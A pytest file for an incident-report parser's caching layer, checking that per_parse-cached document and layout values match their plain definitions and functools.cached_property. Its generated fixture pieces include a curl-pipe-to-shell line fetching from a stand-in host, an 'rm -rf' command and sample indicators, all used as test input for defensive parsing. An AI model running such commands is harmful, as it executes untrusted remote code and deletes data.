"""Round 30: the values a parse computes once on its SourceDocument (body, line_starts,
body_line_starts) and on the IOC engine's Layout (fences, spans, headings) are kept by
shared_reads.per_parse, functools.cached_property without its lock (Python 3.11's takes an
RLock at each first use, ~1 us each).

Each value is compared with the plain computation (its definition) and with the same class
under functools.cached_property (the code before this round), every report is parsed both ways
and the reports compared, and each value is checked to be computed once and kept in the
instance's __dict__ as cached_property keeps it. On every report we have (fixtures, docs,
README, the shared corpus when present) and generated texts (front matter, CR and CRLF line
ends, a BOM, fences, code spans, headings, empty and blank texts): the generated ones alone
take every path without the corpus.
"""

from __future__ import annotations

import random
import re
from collections.abc import Iterator
from contextlib import contextmanager
from functools import cached_property
from typing import Any

from incidentparse import parse, source
from incidentparse.ioc import layout as layout_module
from incidentparse.ioc.layout import Layout
from incidentparse.ioc.patterns import CODE_SPAN, HEADING
from incidentparse.shared_reads import per_parse

from .conftest import REPO_MARKDOWN, SHARED

_KEPT: dict[type, tuple[str, ...]] = {
    source.SourceDocument: ("body", "line_starts", "body_line_starts"),
    Layout: ("fences", "spans", "headings"),
}

_PIECES = (
    "# Incident report\n",
    "## Timeline\n",
    "### 10:02 UTC\n",
    "Prose with `code span` and ``two `ticks` `` here.\n",
    "- 2024-03-01 12:00 UTC - evil[.]com contacted from 10.0.0.5\n",
    "| When | What |\n|---|---|\n| 09:00 | `rm -rf /tmp/x` |\n",
    "```bash\ncurl http://bad.example/x.sh | sh\n```\n",
    "~~~\nunclosed fence\n",
    "    indented code 1.2.3.4\n",
    "**Status:** resolved\n",
    "Text with\r\nCRLF ends\r\n",
    "and a lone\rCR\n",
    "\n",
    "   \n",
    "#not a heading\n",
    "  ## indented heading ##\n",
    "C:\\Windows\\evil.exe and HKLM\\Software\\Run\n",
)
_FRONT = (
    "",
    "",
    "---\ntitle: Outage (INC-1)\nstatus: resolved\n---\n",
    '+++\ntitle = "Breach"\n+++\n',
    "---\n- not a mapping\n---\n",
    "---\nkey: [unclosed\n---\n",
    "---\ntitle: only front matter\n---",
    "---\nno closing fence\n",
)


def _generated(count: int, seed: int) -> list[str]:
    rng = random.Random(seed)
    texts = []
    for _ in range(count):
        body = "".join(rng.choice(_PIECES) for _ in range(rng.randint(0, 14)))
        text = rng.choice(_FRONT) + body
        if rng.random() < 0.1:
            text = "\ufeff" + text
        if rng.random() < 0.2:
            text = text.rstrip("\n")
        texts.append(text)
    return [*texts, "", "\n", "\n\n", "# x\n", "# x", "\r\n", "\ufeff# x\r\n"]


def _texts() -> list[str]:
    corpus = sorted((SHARED / "corpus").glob("*.md"))
    reports = [path.read_text(encoding="utf-8") for path in [*REPO_MARKDOWN, *corpus]]
    return [*reports, *_generated(600, 30)]


@contextmanager
def _cached_properties() -> Iterator[None]:
    """The classes as they were before this round: each value a functools.cached_property."""
    saved = {(cls, name): cls.__dict__[name] for cls, names in _KEPT.items() for name in names}
    try:
        for (cls, name), kept in saved.items():
            assert isinstance(kept, per_parse)
            plain = cached_property(kept.func)
            plain.__set_name__(cls, name)
            setattr(cls, name, plain)
        yield
    finally:
        for (cls, name), kept in saved.items():
            setattr(cls, name, kept)


def _plain_body(doc: source.SourceDocument) -> str:
    """SourceDocument.body's definition."""
    if not doc.front_matter_end:
        return doc.text
    return "\n" * doc.front_matter_end + "\n".join(doc.lines[doc.front_matter_end :])


def _plain_headings(text: str) -> list[int]:
    return [m.start() for m in HEADING.finditer(text) if layout_module._line_start(text, m)]


def _values(obj: object, names: tuple[str, ...]) -> dict[str, Any]:
    return {name: getattr(obj, name) for name in names}


def test_every_kept_value_is_per_parse() -> None:
    for cls, names in _KEPT.items():
        for name in names:
            kept = cls.__dict__[name]
            assert isinstance(kept, per_parse), (cls, name)
            assert kept.name == name and kept.__doc__ == kept.func.__doc__


def test_source_values_are_their_definitions_and_kept_once() -> None:
    fronted = 0
    for text in _texts():
        doc = source.load(text)
        names = _KEPT[source.SourceDocument]
        assert not any(name in doc.__dict__ for name in names)
        first = _values(doc, names)
        assert first["body"] == _plain_body(doc)
        assert first["line_starts"] == source.find_line_starts(doc.text)
        assert first["body_line_starts"] == source.find_line_starts(doc.body)
        for name in names:  # computed once, kept in the instance as cached_property keeps it
            assert doc.__dict__[name] is first[name] and getattr(doc, name) is first[name]
        fronted += doc.front_matter_end > 0
        with _cached_properties():
            old = source.load(text)
            assert _values(old, names) == first
    assert fronted > 50


def test_layout_values_are_their_definitions_and_kept_once() -> None:
    found = {"fences": 0, "spans": 0, "headings": 0}
    for text in _texts():
        for markdown in (True, False):
            layout = Layout.build(text, markdown)
            names = _KEPT[Layout]
            first = _values(layout, names)
            if markdown:
                assert first["fences"] == layout_module._fences(text)
                assert first["spans"] == [m.span() for m in CODE_SPAN.finditer(text)]
                assert first["headings"] == _plain_headings(text)
                for name in names:
                    found[name] += bool(first[name])
            else:
                assert first == {"fences": [], "spans": [], "headings": []}
            for name in names:
                assert layout.__dict__[name] is first[name] and getattr(layout, name) is first[name]
            with _cached_properties():
                assert _values(Layout.build(text, markdown), names) == first
    assert min(found.values()) > 100, found


def test_per_parse_computes_each_value_once() -> None:
    calls: list[str] = []

    class Holder:
        @per_parse
        def value(self) -> list[str]:
            calls.append("value")
            return ["v"]

    holder = Holder()
    assert holder.value is holder.value is holder.__dict__["value"]
    assert calls == ["value"]
    assert Holder().value == ["v"] and calls == ["value", "value"]


def test_reports_are_those_of_the_cached_properties() -> None:
    texts = _texts()
    fast = [parse(text).model_dump_json() for text in texts]
    with _cached_properties():
        plain = [parse(text).model_dump_json() for text in texts]
    assert fast == plain
    assert sum('"indicators":[]' not in report for report in fast) > 100
    assert any(re.search(r'"front_matter":\{"', report) for report in fast)
